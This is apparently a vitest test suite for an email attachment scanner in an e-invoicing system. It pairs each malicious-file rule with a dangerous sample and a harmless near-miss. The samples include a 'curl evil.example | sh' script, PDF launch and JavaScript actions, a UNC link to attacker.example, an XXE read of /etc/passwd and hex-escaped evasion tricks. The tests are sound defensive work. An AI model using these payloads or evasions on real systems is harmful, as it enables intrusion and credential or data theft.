import { describe, expect, it } from "vitest";
import { eicar } from "../helpers/clamav.ts";
import {
  makeDocx,
  makeOdt,
  makeOle,
  makePdf,
  makeProgram,
  makeVbaProject,
  makeWordPackage,
  makeZip,
  makePng,
  makeJpeg,
  makeXlsx,
  flate,
  objectStream,
  type PdfObjectBody,
  type Platform,
} from "../helpers/documents.ts";
import { bytesOf, ciiInvoice, FACTS, serialise, ublXml } from "../helpers/einvoice.ts";
import { attachment } from "../helpers/mime.ts";
import { buildPdf } from "../helpers/pdf.ts";
import { expectFlagged, expectPassed, receive } from "../helpers/received.ts";

/**
 * The built-in rules on what a file holds, each with the dangerous case and
 * the nearest harmless one, sent through email() end to end. A harmless
 * file must pass ClamAV too when the test clamd runs.
 */
const encoder = new TextEncoder();
const pdf = (name: string, bytes: Uint8Array) => attachment(name, "application/pdf", bytes);
const file = (name: string, bytes: Uint8Array | string, type = "application/octet-stream") => attachment(name, type, bytes);

describe("EICAR", () => {
  it("fires on the EICAR test file, in a ZIP, in the middle of a PDF, and in a PDF's compressed object stream", async () => {
    const hidden = new Uint8Array([...encoder.encode("% "), ...eicar(), 0x0a]);
    const inPdf = makePdf("eicar", { extraObjects: [{ dict: "<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] >>", stream: hidden }] });
    const inObjectStream = makePdf("eicar-objstm", { extraObjects: [objectStream([{ num: 7, body: "<< /Kind /Note >>" }], { data: flate(new Uint8Array([...encoder.encode("7 0 << >>\n"), ...hidden])) })] });
    const received = await receive(
      file("readme.txt", eicar(), "text/plain"),
      attachment("invoices.zip", "application/zip", makeZip({ "invoice.pdf": makePdf(), "terms.txt": eicar() })),
      pdf("scan.pdf", inPdf),
      pdf("compressed.pdf", inObjectStream),
    );
    for (const name of ["readme.txt", "terms.txt", "scan.pdf", "compressed.pdf"]) expect(expectFlagged(received, name, "EICAR").reason).toMatch(/EICAR test file/);
    expect(received.file("terms.txt").path).toBe("invoices.zip › terms.txt");
    expectPassed(received, "invoice.pdf");
  });

  it("does not fire on a text that only names the test file", async () => {
    const received = await receive(pdf("invoice.pdf", makePdf()), file("notes.txt", "Our scanners are tested with the EICAR-STANDARD-ANTIVIRUS-TEST-FILE of eicar.org.\n", "text/plain"));
    expectPassed(received, "notes.txt", "companion");
    expect(received.message.outcome).toBe("imported");
  });
});

describe("EXECUTABLE", () => {
  it.each<[string, Platform]>([
    ["Windows (PE)", "pe"],
    ["Linux (ELF)", "elf"],
    ["macOS (Mach-O)", "macho"],
    ["a Windows shortcut (LNK)", "lnk"],
    ["a Windows Installer package (MSI)", "msi"],
    ["Java (JAR)", "jar"],
    ["a Java class", "class"],
    ["Android (DEX)", "dex"],
    ["WebAssembly", "wasm"],
  ])("fires on a program for %s named invoice.pdf and sent as application/pdf", async (_what, platform) => {
    const received = await receive(pdf("invoice.pdf", makeProgram(platform)));
    expect(expectFlagged(received, "invoice.pdf", "EXECUTABLE").reason).toMatch(/^It is a program \(/);
    expect(received.message.outcome).toBe("flagged");
  });

  // A file starting with "MZ" is taken for a DOS or Windows program, as file-type does: no text needs to.
  it("does not fire on a text quoting a program's header, nor on an ordinary OLE document", async () => {
    const received = await receive(
      pdf("invoice.pdf", makePdf()),
      file("delivery.txt", "Delivery note 2026-11-20\nThe installer said: This program cannot be run in DOS mode.\n", "text/plain"),
      file("letter.doc", makeOle([{ name: "WordDocument", type: "stream" }, { name: "1Table", type: "stream" }]), "application/msword"),
    );
    expectPassed(received, "delivery.txt", "companion");
    expectPassed(received, "letter.doc", "companion");
  });
});

describe("SCRIPT", () => {
  it("fires on a script that names its interpreter, whatever its name", async () => {
    const received = await receive(file("invoice.txt", "#!/bin/sh\ncurl -s https://evil.example/x | sh\n", "text/plain"));
    expectFlagged(received, "invoice.txt", "SCRIPT");
  });

  it("does not fire on a text whose first line is a comment", async () => {
    const received = await receive(pdf("invoice.pdf", makePdf()), file("lines.csv", "# invoice lines\nitem;price\nwidget;10.00\n", "text/csv"));
    expectPassed(received, "lines.csv", "companion");
  });
});

describe("OFFICE_MACRO", () => {
  it.each([
    ["a VBA project inside a package whose content type says .docx", "offer.docx", makeWordPackage({ "word/vbaProject.bin": makeVbaProject() })],
    ["a macro-enabled Word document (.docm by its content type)", "offer.docx", makeWordPackage({}, true)],
    ["a Word 97 document with a VBA storage", "offer.doc", makeOle([{ name: "WordDocument", type: "stream" }, { name: "Macros", type: "storage" }, { name: "VBA", type: "storage" }])],
    ["an Excel 97 workbook with a VBA project", "prices.xls", makeOle([{ name: "Workbook", type: "stream" }, { name: "_VBA_PROJECT_CUR", type: "storage" }, { name: "VBA", type: "storage" }])],
    ["an OpenDocument text with a Basic module", "offer.odt", makeOdt({ "Basic/Standard/Module1.xml": "<script:module script:name=\"Module1\">Sub Main\nShell(\"calc\")\nEnd Sub</script:module>" })],
  ])("fires on %s", async (_what, name, bytes) => {
    const received = await receive(pdf("invoice.pdf", makePdf()), file(name, bytes));
    expect(expectFlagged(received, name, "OFFICE_MACRO").reason).toMatch(/macro|VBA/);
    expect(received.message.outcome).toBe("partially_imported");
  });

  it("fires on a macro-enabled package whose parts are in an order that makes it sniff as a plain ZIP, not unpacking it", async () => {
    // The content types part last, after the VBA project: file-type then says ZIP.
    const scrambled = makeZip({
      "word/vbaProject.bin": makeVbaProject(),
      "word/document.xml": encoder.encode('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
      "[Content_Types].xml": encoder.encode('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    });
    const odf = makeZip({ "Basic/Standard/Module1.xml": encoder.encode("<script:module>Sub Main\nEnd Sub</script:module>"), "content.xml": encoder.encode("<office:document-content/>"), mimetype: encoder.encode("application/vnd.oasis.opendocument.text"), "META-INF/manifest.xml": encoder.encode("<manifest:manifest/>") });
    const received = await receive(pdf("invoice.pdf", makePdf()), file("offer.docm", scrambled), file("offer.odt", odf));
    expect(expectFlagged(received, "offer.docm", "OFFICE_MACRO").reason).toMatch(/VBA/);
    expectFlagged(received, "offer.odt", "OFFICE_MACRO");
    expect(received.message.files.map((f: any) => f.name)).toEqual(["invoice.pdf", "offer.docm", "offer.odt"]);
  });

  it("fires on a VBA project taken out of a ZIP", async () => {
    const received = await receive(attachment("docs.zip", "application/zip", makeZip({ "vbaProject.bin": makeVbaProject() })));
    expectFlagged(received, "vbaProject.bin", "OFFICE_MACRO");
  });

  it("does not fire on Office documents without macros: they are the invoice's appendices", async () => {
    const received = await receive(
      pdf("invoice.pdf", makePdf()),
      file("timesheet.docx", makeDocx()),
      file("letter.doc", makeOle([{ name: "WordDocument", type: "stream" }, { name: "1Table", type: "stream" }])),
      file("terms.odt", makeOdt({ "Basic/script-lc.xml": "<library:libraries/>" })),
    );
    for (const name of ["timesheet.docx", "letter.doc", "terms.odt"]) expectPassed(received, name, "companion");
    expect(received.message.outcome).toBe("imported");
    expect(received.invoices[0].appendices).toHaveLength(3);
  });
});

describe("PDF_JAVASCRIPT", () => {
  it.each([
    ["an /OpenAction running JavaScript", { extraCatalog: "/OpenAction 6 0 R", extraObjects: ["<< /S /JavaScript /JS (app.alert(1)) >>"] }],
    ["names written with hex escapes (/J#61vaScript, /J#53)", { extraCatalog: "/OpenAction 6 0 R", extraObjects: ["<< /S /J#61vaScript /J#53 (app.alert(1)) >>"] }],
    ["JavaScript inside a FlateDecode object stream", { extraCatalog: "/OpenAction 7 0 R", extraObjects: [objectStream([{ num: 7, body: "<< /S /JavaScript /JS (this.exportDataObject({cName: 'x', nLaunch: 2})) >>" }])] }],
    ["a document-level JavaScript name tree, its code in a compressed stream", { extraCatalog: "/Names << /JavaScript 6 0 R >>", extraObjects: ["<< /Names [(init) 7 0 R] >>", "<< /S /JavaScript /JS 8 0 R >>", { dict: "<< /Filter /FlateDecode >>", stream: flate("app.launchURL('https://evil.example')") }] }],
  ])("fires on %s", async (_what, options) => {
    const received = await receive(pdf("invoice.pdf", makePdf(undefined, options)));
    expect(expectFlagged(received, "invoice.pdf", "PDF_JAVASCRIPT").reason).toMatch(/JavaScript/);
  });

  it("does not fire on an /OpenAction that sets the zoom, nor on the word JavaScript in a string", async () => {
    const received = await receive(
      pdf("zoom.pdf", makePdf(undefined, { extraCatalog: "/OpenAction [3 0 R /FitH null] /PageMode /UseNone" })),
      pdf("words.pdf", makePdf(undefined, { extraObjects: ["<< /Title (Why we stopped using /JavaScript and /JS in invoices) /Producer (JS Invoicing 2.0) >>"] })),
    );
    expectPassed(received, "zoom.pdf");
    expectPassed(received, "words.pdf");
    expect(received.message.outcome).toBe("imported");
  });
});

describe("PDF_LAUNCH", () => {
  it.each([
    ["an /OpenAction that launches a program", { extraCatalog: "/OpenAction 6 0 R", extraObjects: ["<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"] }],
    ["a hex-escaped launch action inside an object stream", { extraCatalog: "/OpenAction 7 0 R", extraObjects: [objectStream([{ num: 7, body: "<< /S /L#61unch /F (invoice.exe) >>" }])] }],
  ])("fires on %s", async (_what, options) => {
    const received = await receive(pdf("invoice.pdf", makePdf(undefined, options)));
    expect(expectFlagged(received, "invoice.pdf", "PDF_LAUNCH").reason).toMatch(/launch action/);
  });

  it("does not fire on go-to and web link actions", async () => {
    const received = await receive(
      pdf("invoice.pdf", makePdf(undefined, { extraCatalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", extraObjects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://supplier.example/pay) >> >>"] })),
    );
    expectPassed(received, "invoice.pdf");
  });
});

describe("PDF_XFA_SCRIPT", () => {
  const template = (inside: string) =>
    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="invoice"><field name="total"><value><decimal/></value>${inside}</field></subform></template></xdp:xdp>`;
  const javascript = '<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://evil.example/")</script></event>';
  const withXfa = (xfa: string, extraObjects: PdfObjectBody[]) => makePdf(undefined, { extraCatalog: `/AcroForm << /Fields [] /XFA ${xfa} >>`, extraObjects });

  it.each([
    ["one plain stream", withXfa("6 0 R", [{ dict: "<< >>", stream: encoder.encode(template(javascript)) }])],
    ["a Flate-compressed template packet among name/stream pairs", withXfa("[(preamble) 6 0 R (template) 7 0 R (postamble) 8 0 R]", ["<< /Kind /Preamble >>", { dict: "<< /Filter /FlateDecode >>", stream: flate(template(javascript)) }, "<< >>"])],
    ["a FormCalc script with a namespace prefix", withXfa("6 0 R", [{ dict: "<< >>", stream: encoder.encode(template('<event activity="click"><x:SCRIPT>xfa.host.gotoURL("https://evil.example/")</x:SCRIPT></event>')) }])],
  ])("fires on an XFA form with a script in %s", async (_what, bytes) => {
    const received = await receive(pdf("invoice.pdf", bytes));
    expect(expectFlagged(received, "invoice.pdf", "PDF_XFA_SCRIPT").reason).toMatch(/XFA form with scripts/);
  });

  it("makes an XFA packet it cannot decode unreadable: it could hide a script", async () => {
    const received = await receive(pdf("invoice.pdf", withXfa("6 0 R", [{ dict: "<< /Filter /LZWDecode >>", stream: encoder.encode(template(javascript)) }])));
    expect(expectFlagged(received, "invoice.pdf", "PDF_UNREADABLE_OBJECTS").reason).toMatch(/its XFA form: a PDF stream is encoded with LZWDecode/);
  });

  it("does not fire on an XFA form without scripts, nor on the word script in its data", async () => {
    const datasets = '<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><note>The &lt;script&gt; in our manuscripts</note></xfa:data></xfa:datasets>';
    const received = await receive(pdf("invoice.pdf", withXfa("[(template) 6 0 R (datasets) 7 0 R]", [{ dict: "<< >>", stream: encoder.encode(template("")) }, { dict: "<< /Filter /FlateDecode >>", stream: flate(datasets) }])));
    expectPassed(received, "invoice.pdf");
  });
});

describe("PDF_REMOTE_ACTION", () => {
  const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`;
  it.each([
    ["a /GoToR link", link("<< /S /GoToR /F (\\\\\\\\fileserver\\\\invoices\\\\terms.pdf) /D [0 /Fit] >>"), /opens another file/],
    ["a /GoToE link", link("<< /S /GoToE /T << /R /C /N (terms) >> >>"), /opens a PDF embedded/],
    ["an /ImportData action", link("<< /S /ImportData /F (data.fdf) >>"), /imports form data from another file \("data.fdf"\)/],
    ["a /SubmitForm action", link("<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/post) >> >>"), /sends the form's data to an address \("https:\/\/collect.example\/post"\)/],
    ["a javascript: link", link("<< /S /URI /URI (  JavaScript:app.alert\\(1\\)) >>"), /runs a script/],
    ["a file: link", link("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), /file on the reader's computer/],
    ["a UNC path", link("<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x.png) >>"), /network share \("\\\\attacker.example\\share\\x.png"\), which makes Windows send/],
    ["an smb: address", link("<< /S /URI /URI (smb://attacker.example/share) >>"), /network share/],
    ["a web address a page opens by itself (/AA)", "<< /Type /Note /AA << /O << /S /URI /URI (https://tracker.example/open) >> >> >>", /opened by itself, without a click/],
  ])("fires on %s", async (_what, object, why) => {
    const received = await receive(pdf("invoice.pdf", makePdf(undefined, { extraObjects: [object] })));
    expect(expectFlagged(received, "invoice.pdf", "PDF_REMOTE_ACTION").reason).toMatch(why);
  });

  it("does not fire on https:, http: and mailto: links, nor on go-to actions within the document", async () => {
    const received = await receive(
      pdf(
        "invoice.pdf",
        makePdf(undefined, {
          extraCatalog: "/OpenAction [3 0 R /Fit]",
          extraObjects: [
            link("<< /S /URI /URI (https://pay.supplier.example/invoice/42?amount=121.00) >>"),
            link("<< /S /URI /URI (http://supplier.example) >>"),
            link("<< /S /URI /URI (mailto:billing@supplier.example) >>"),
            "<< /Type /Note /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
          ],
        }),
      ),
    );
    expectPassed(received, "invoice.pdf");
  });
});

describe("PDF_EMBEDDED_FILE", () => {
  const withJavaScript = makePdf(undefined, { extraCatalog: "/OpenAction 6 0 R", extraObjects: ["<< /S /JavaScript /JS (app.alert(1)) >>"] });
  const doctype = encoder.encode('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>');
  const cii = (number: string) => bytesOf(serialise(ciiInvoice({ ...FACTS, number })));
  const attaching = (...attachments: { name: string; data: Uint8Array; compress?: boolean }[]) => buildPdf({ attachments });
  /** An attachment in a filter the checks do not decode (LZW), written by hand: buildPdf writes Flate or nothing. */
  const lzwAttachment = makePdf(undefined, {
    extraCatalog: "/Names << /EmbeddedFiles << /Names [(factur-x.xml) 7 0 R] >> >>",
    extraObjects: [{ dict: "<< /Type /EmbeddedFile /Filter /LZWDecode >>", stream: cii("INV-LZW") }, "<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 6 0 R >> >>"],
  });

  it.each([
    ["a program", "details.bin", attaching({ name: "details.bin", data: makeProgram("pe") }), /a EXE file/],
    ["a file named like a program", "readme.txt.js", attaching({ name: "readme.txt.js", data: encoder.encode("WScript.Echo(1)") }), /named like a program/],
    ["XML with a DOCTYPE under the Factur-X name", "factur-x.xml", attaching({ name: "factur-x.xml", data: doctype }), /DOCTYPE/],
    ["a PDF with JavaScript", "appendix.pdf", attaching({ name: "appendix.pdf", data: withJavaScript }), /PDF with JavaScript/],
    ["a Word document", "timesheet.docx", attaching({ name: "timesheet.docx", data: makeDocx() }), /a DOCX file/],
    ["data in a filter the checks do not decode", "factur-x.xml", lzwAttachment, /cannot be checked \(a PDF stream is encoded with LZWDecode/],
  ])("fires on a PDF embedding %s", async (_what, name, bytes, why) => {
    const received = await receive(pdf("invoice.pdf", bytes));
    const item = expectFlagged(received, "invoice.pdf", "PDF_EMBEDDED_FILE");
    expect(item.reason).toMatch(why);
    expect(item.reason).toContain(`"${name}"`);
  });

  it.each([
    ["a damaged PNG", "scan.png", async () => new Uint8Array([...(await makePng(400, 400)).subarray(0, 16)]), /a PNG file that is damaged/],
    ["an XLSX with a VBA project", "figures.xlsx", async () => makeXlsx({ "xl/vbaProject.bin": makeVbaProject() }), /OFFICE_MACRO check refuses/],
    ["a CSV under a name with a control character", "hours\u0007.csv", async () => encoder.encode("date;hours\n2026-03-01;8\n"), /NAME_CONTROL_CHARACTERS check refuses/],
  ])("fires on a Factur-X PDF embedding %s as a supporting document", async (_what, name, make, why) => {
    const received = await receive(pdf("invoice.pdf", attaching({ name: "factur-x.xml", data: cii("INV-BG24-BAD") }, { name, data: await make() })));
    const item = expectFlagged(received, "invoice.pdf", "PDF_EMBEDDED_FILE");
    expect(item.reason).toMatch(why);
    expect(item.reason).toContain(`"${name.replace("\u0007", "[U+0007]")}"`);
  });

  it("does not fire on supporting documents of the types EN 16931 allows (BG-24) that pass every rule", async () => {
    const received = await receive(
      pdf(
        "invoice.pdf",
        attaching(
          { name: "factur-x.xml", data: cii("INV-BG24") },
          { name: "delivery.png", data: await makePng(400, 300) },
          { name: "signature.jpg", data: makeJpeg(400, 300) },
          { name: "hours.csv", data: encoder.encode("date;hours\n2026-03-01;8\n2026-03-02;7.5\n") },
          { name: "figures.xlsx", data: makeXlsx() },
          { name: "figures.ods", data: makeOdt({}, "spreadsheet") },
        ),
      ),
    );
    expectPassed(received, "invoice.pdf");
    expect(received.invoices[0]).toMatchObject({ format: "facturx" });
  });

  it("does not fire on a Factur-X PDF embedding an uncompressed PDF whose object numbers repeat the outer file's (indirect /Length)", async () => {
    const inner = makePdf(undefined, { extraObjects: [{ dict: "<< /Type /XObject /Subtype /Image >>", stream: crypto.getRandomValues(new Uint8Array(64)) }] });
    for (const xref of ["table", "streams"] as const) {
      const bytes = buildPdf({ xref, lengths: "indirect", attachments: [{ name: "factur-x.xml", data: cii(`INV-NESTED-${xref}`), compress: false }, { name: "appendix.pdf", data: inner, compress: false }] });
      const received = await receive(pdf("invoice.pdf", bytes));
      expectPassed(received, "invoice.pdf");
      expect(received.invoices[0]).toMatchObject({ format: "facturx" });
    }
  });

  it("does not fire on Factur-X, ZUGFeRD and XRechnung invoices, nor on a supporting PDF and XML beside them", async () => {
    const received = await receive(
      pdf("facturx.pdf", attaching({ name: "factur-x.xml", data: cii("INV-FX") })),
      pdf("zugferd.pdf", attaching({ name: "zugferd-invoice.xml", data: cii("INV-ZF2") })),
      pdf("zugferd1.pdf", attaching({ name: "ZUGFeRD-invoice.xml", data: cii("INV-ZF1") })),
      pdf("xrechnung.pdf", attaching({ name: "xrechnung.xml", data: ublXml(), compress: false })),
      pdf("with-support.pdf", attaching({ name: "factur-x.xml", data: cii("INV-SUP") }, { name: "timesheet.pdf", data: makePdf() }, { name: "delivery-note.xml", data: encoder.encode("<note>12 pallets</note>") })),
    );
    for (const name of ["facturx.pdf", "zugferd.pdf", "zugferd1.pdf", "xrechnung.pdf", "with-support.pdf"]) expectPassed(received, name);
    expect(received.message.outcome).toMatch(/^(imported|partially_imported)$/);
    expect(received.inbox.filter((i) => i.kind === "malicious")).toEqual([]);
  });
});

describe("PDF_UNREADABLE_OBJECTS", () => {
  it.each([
    ["an object stream in LZW", [objectStream([{ num: 7, body: "<< >>" }], { filter: "/LZWDecode" })], /object stream 6: a PDF stream is encoded with LZWDecode/],
    ["an object stream that does not decompress", [objectStream([{ num: 7, body: "<< >>" }], { data: crypto.getRandomValues(new Uint8Array(512)) })], /object stream 6: a compressed PDF stream is damaged/],
    ["an object stream that expands past 16 MiB", [objectStream([{ num: 7, body: "<< >>" }], { data: flate(new Uint8Array(17 * 1024 * 1024)) })], /inflates to more than 16777216 bytes/],
    ["objects nested 100 deep", [`${"[".repeat(100)}${"]".repeat(100)}`], /nested more than 64/],
  ])("fires on %s", async (_what, extraObjects, why) => {
    const received = await receive(pdf("invoice.pdf", makePdf(undefined, { extraObjects })));
    expect(expectFlagged(received, "invoice.pdf", "PDF_UNREADABLE_OBJECTS").reason).toMatch(why);
  });

  it("does not fire on object streams it decodes, nor on image data it need not read", async () => {
    const image = { dict: "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode >>", stream: crypto.getRandomValues(new Uint8Array(256)) };
    const received = await receive(pdf("invoice.pdf", makePdf(undefined, { extraObjects: [objectStream([{ num: 8, body: "<< /Type /Metadata >>" }, { num: 9, body: "[1 2 3]" }]), image] })));
    expectPassed(received, "invoice.pdf");
  });
});

describe("HTML_SCRIPT", () => {
  const page = (body: string) => `<!DOCTYPE html><html><head><title>Invoice 42</title><style>td { padding: 4px }</style></head><body><h1>Invoice 42</h1><table><tr><td>Total</td><td>121.00 EUR</td></tr></table>${body}</body></html>`;

  it.each([
    ["a script element", "invoice.html", page("<script>location = 'https://evil.example/login'</script>")],
    ["an event handler", "invoice.html", page('<img src="logo.png" onerror="fetch(\'//evil.example\')">')],
    ["an entity-encoded javascript: link", "invoice.html", page('<a href="jav&#x61;&#x09;script:alert(1)">Pay</a>')],
    ["an embedded frame", "invoice.html", page('<iframe src="https://evil.example/pay"></iframe>')],
    ["a script in a text file named .htm", "invoice.htm", "Dear customer,\nplease open this page.\n<script>document.write('x')</script>\n"],
  ])("fires on a web page with %s", async (_what, name, html) => {
    const received = await receive(file(name, html, "text/html"));
    expect(expectFlagged(received, name, "HTML_SCRIPT").reason).toMatch(/web page with/);
  });

  it("does not fire on a page without code: it is only unsupported", async () => {
    const received = await receive(file("invoice.html", page('<p><a href="https://supplier.example/pay?invoice=42">Pay online</a></p>'), "text/html"));
    expectPassed(received, "invoice.html", "unsupported");
    expect(received.file("invoice.html").reasonCode).toBe("HTML_FILE");
  });
});

describe("SVG_SCRIPT", () => {
  const svg = (inside: string, attributes = "") => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"${attributes}><rect width="200" height="100" fill="#eee"/>${inside}</svg>`;

  it.each([
    ["a script element", svg("<script>alert(document.domain)</script>")],
    ["an onload handler", svg("", ' onload="alert(1)"')],
    ["a javascript: link", svg('<a href="javascript:alert(1)"><text x="10" y="50">Pay</text></a>')],
  ])("fires on a drawing with %s", async (_what, drawing) => {
    const received = await receive(file("logo.svg", drawing, "image/svg+xml"));
    expect(expectFlagged(received, "logo.svg", "SVG_SCRIPT").reason).toMatch(/SVG drawing with/);
  });

  it("does not fire on a plain drawing: it is only unsupported", async () => {
    const received = await receive(file("logo.svg", svg('<text x="10" y="50">Invoice 42</text>'), "image/svg+xml"));
    expectPassed(received, "logo.svg", "unsupported");
    expect(received.file("logo.svg").reasonCode).toBe("SVG_FILE");
  });
});

describe("XML_DOCTYPE", () => {
  const withDoctype = (xml: Uint8Array) =>
    new TextDecoder().decode(xml).replace("?>", '?>\n<!DOCTYPE Invoice [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>');
  const utf16le = (text: string) => {
    const bytes = new Uint8Array(2 + text.length * 2);
    bytes.set([0xff, 0xfe]);
    for (let i = 0; i < text.length; i++) new DataView(bytes.buffer).setUint16(2 + i * 2, text.charCodeAt(i), true);
    return bytes;
  };

  it("fires on an e-invoice with a DOCTYPE and entities, in UTF-8 and in UTF-16", async () => {
    const received = await receive(file("invoice.xml", withDoctype(ublXml()), "application/xml"), file("invoice-utf16.xml", utf16le(withDoctype(ublXml()).replace('encoding="UTF-8"', 'encoding="UTF-16"')), "application/xml"));
    expectFlagged(received, "invoice.xml", "XML_DOCTYPE");
    expectFlagged(received, "invoice-utf16.xml", "XML_DOCTYPE");
  });

  it("does not fire on the same e-invoice without one", async () => {
    const received = await receive(file("invoice.xml", ublXml(), "application/xml"));
    expectPassed(received, "invoice.xml");
    expect(received.invoices[0]).toMatchObject({ format: "ubl" });
  });
});

describe("PDF_ENCRYPTED (validity)", () => {
  /**
   * RC4 40-bit (revision 2) with an owner password only: /U is what the empty
   * user password gives for this /O, /P and /ID (worked out once with
   * Python's hashlib and an RC4 of a few lines, apart from our code).
   */
  const security = (user: string, filter = "/Standard") =>
    `<< /Filter ${filter} /V 1 /R 2 /O <ec8be78231b29132f7596720a36e894787349c71e0926453251e8ebd740e9a6a> /U <${user}> /P -3904 >>`;
  const OPENS = "676545685878d2fddbb444e44faf5b6d1ade8f8202d1ea2101953be9a9c017e0";
  const NEEDS_PASSWORD = "00".repeat(32);
  const encrypted = (user: string, options: { filter?: string; extraCatalog?: string; extraObjects?: PdfObjectBody[] } = {}) =>
    makePdf(undefined, { extraCatalog: options.extraCatalog, extraObjects: [security(user, options.filter), ...(options.extraObjects ?? [])], extraTrailer: "/Encrypt 6 0 R /ID [<656d61696c2d636f6e6e6563746f7221> <656d61696c2d636f6e6e6563746f7221>]" });

  it.each([
    ["protected by a password", encrypted(NEEDS_PASSWORD), /protected by a password/],
    ["encrypted for certificates", encrypted(OPENS, { filter: "/Adobe.PubSec" }), /in a way the checks do not know/],
    ["opening without a password, but with encrypted object streams", encrypted(OPENS, { extraObjects: [objectStream([{ num: 8, body: "<< >>" }])] }), /keeps its compressed object streams from the checks/],
    ["opening without a password, but with encrypted attachments", encrypted(OPENS, { extraObjects: ["<< /Type /Filespec /F (x.xml) /EF << /F 8 0 R >> >>", { dict: "<< /Type /EmbeddedFile >>", stream: encoder.encode("<x/>") }] }), /keeps the files it embeds from the checks/],
  ])("makes a PDF %s invalid: it cannot be read or checked", async (_what, bytes, why) => {
    const received = await receive(pdf("invoice.pdf", bytes));
    expect(received.file("invoice.pdf")).toMatchObject({ verdict: "invalid", reasonCode: "PDF_ENCRYPTED" });
    const item = received.item("invoice.pdf");
    expect(item).toMatchObject({ kind: "invalid", reasonCode: "PDF_ENCRYPTED", scanner: null });
    expect(item.reason).toMatch(why);
  });

  it("still calls an encrypted PDF malicious when its plain dictionaries hold JavaScript", async () => {
    const received = await receive(pdf("invoice.pdf", encrypted(NEEDS_PASSWORD, { extraCatalog: "/OpenAction 7 0 R", extraObjects: ["<< /S /JavaScript /JS (x) >>"] })));
    expectFlagged(received, "invoice.pdf", "PDF_JAVASCRIPT");
  });

  it("imports a PDF with an owner password only, whose every part was checked", async () => {
    const received = await receive(pdf("invoice.pdf", encrypted(OPENS)), pdf("words.pdf", makePdf(undefined, { extraObjects: ["<< /Subject (Encrypt your files: /Encrypt) >>"] })));
    expectPassed(received, "invoice.pdf");
    expectPassed(received, "words.pdf");
  });
});
